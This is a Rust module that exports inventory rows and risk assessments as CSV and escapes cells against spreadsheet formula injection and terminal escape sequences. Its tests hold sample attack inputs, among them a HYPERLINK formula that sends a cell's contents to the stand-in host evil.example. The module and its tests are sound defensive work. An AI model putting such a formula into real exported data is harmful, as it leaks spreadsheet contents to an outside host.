//! CSV for spreadsheets: the inventory list and the risk table. The `csv` crate quotes (RFC
//! 4180: a cell with a comma, quote or line break is quoted, its quotes doubled); this module
//! keeps formulas and control characters out of the cells.

use crate::{Factor, ListRow, RiskAssessment};

/// Render rows as CSV with a header line; list fields are joined with `;`.
pub fn rows_csv(rows: &[ListRow]) -> String {
    let header = [
        "id",
        "name",
        "source",
        "target",
        "direction",
        "hook",
        "entities",
        "owner",
        "frequency",
        "peak_per_hour",
        "safe_zone",
        "lifecycle",
        "depends_on",
    ]
    .map(str::to_owned);
    let records = rows.iter().map(|row| {
        [
            row.id.clone(),
            row.name.clone(),
            row.source.clone(),
            row.target.clone(),
            row.direction.clone(),
            row.hook.clone(),
            row.entities.join(";"),
            row.owner.clone().unwrap_or_default(),
            row.frequency.clone().unwrap_or_default(),
            row.peak_per_hour.map(|p| p.to_string()).unwrap_or_default(),
            row.safe_zone.to_string(),
            row.lifecycle.clone(),
            row.depends_on.join(";"),
        ]
    });
    table(std::iter::once(header).chain(records))
}

/// Render risk assessments as CSV: id, class, score, one column per factor (in
/// [`Factor::ALL`] order) and the three reasons that add most to the score.
pub fn risks_csv(risks: &[RiskAssessment]) -> String {
    let header: Vec<String> = ["id", "class", "score"]
        .into_iter()
        .chain(Factor::ALL.iter().map(|f| f.key()))
        .chain(["top_reasons"])
        .map(str::to_owned)
        .collect();
    let records = risks.iter().map(|r| {
        let reasons: Vec<&str> = r.top_factors(3).iter().map(|f| f.reason.as_str()).collect();
        [r.id.clone(), r.class.to_string(), r.score.to_string()]
            .into_iter()
            .chain(r.factors.iter().map(|f| f.score.to_string()))
            .chain([reasons.join("; ")])
            .collect::<Vec<_>>()
    });
    table(std::iter::once(header).chain(records))
}

/// Records as CSV text, one `\n`-terminated line each, every cell through [`cell`].
fn table<R: IntoIterator<Item = String>>(records: impl IntoIterator<Item = R>) -> String {
    let mut bytes = Vec::new();
    {
        let mut writer = csv::WriterBuilder::new()
            .flexible(true)
            .from_writer(&mut bytes);
        for record in records {
            // Writing to memory cannot fail: there is no I/O, and flexible records may differ
            // in length.
            let _ = writer.write_record(record.into_iter().map(|text| cell(&text)));
        }
        let _ = writer.flush();
    }
    String::from_utf8_lossy(&bytes).into_owned()
}

/// A cell's text, safe to open in a spreadsheet. A cell a spreadsheet would read as a formula
/// (starting with `=`, `+`, `-`, `@`, a tab or a carriage return; names and frequencies come
/// from asset files other people write) gets a leading `'`, as OWASP recommends, so it is
/// shown as text; other control characters than tab and line breaks (an ESC would act on a
/// terminal showing the file) become U+FFFD.
fn cell(text: &str) -> String {
    let visible = |c: char| {
        if c.is_control() && !matches!(c, '\t' | '\n' | '\r') {
            '\u{fffd}'
        } else {
            c
        }
    };
    let formula = text.starts_with(['=', '+', '-', '@', '\t', '\r']);
    formula
        .then_some('\'')
        .into_iter()
        .chain(text.chars().map(visible))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    /// `text` as the first of two cells in a one-line table.
    fn csv_field(text: &str) -> String {
        let line = table([[text.to_owned(), "x".to_owned()]]);
        line.strip_suffix(",x\n").unwrap_or(&line).to_owned()
    }

    #[test]
    fn cells_are_quoted_only_when_needed_and_never_run_as_formulas() {
        let cases = [
            ("plain", "plain"),
            ("a,b", "\"a,b\""),
            ("say \"hi\"", "\"say \"\"hi\"\"\""),
            ("two\nlines", "\"two\nlines\""),
            ("cr\rlf", "\"cr\rlf\""),
            (
                "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"click\")",
                "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A2,\"\"click\"\")\"",
            ),
            ("@SUM(1+9)", "'@SUM(1+9)"),
            ("+1", "'+1"),
            ("-5", "'-5"),
            ("\tx", "'\tx"),
            ("\rx", "\"'\rx\""),
            ("a=b", "a=b"),
            ("", ""),
            ("a\u{1b}[2Kb", "a\u{fffd}[2Kb"),
        ];
        for (text, cell) in cases {
            assert_eq!(csv_field(text), cell, "{text:?}");
        }
    }

    #[test]
    fn lines_end_with_a_line_feed() {
        assert_eq!(
            table([vec!["a".to_owned(), String::new()], vec!["b".to_owned()]]),
            "a,\nb\n"
        );
    }
}
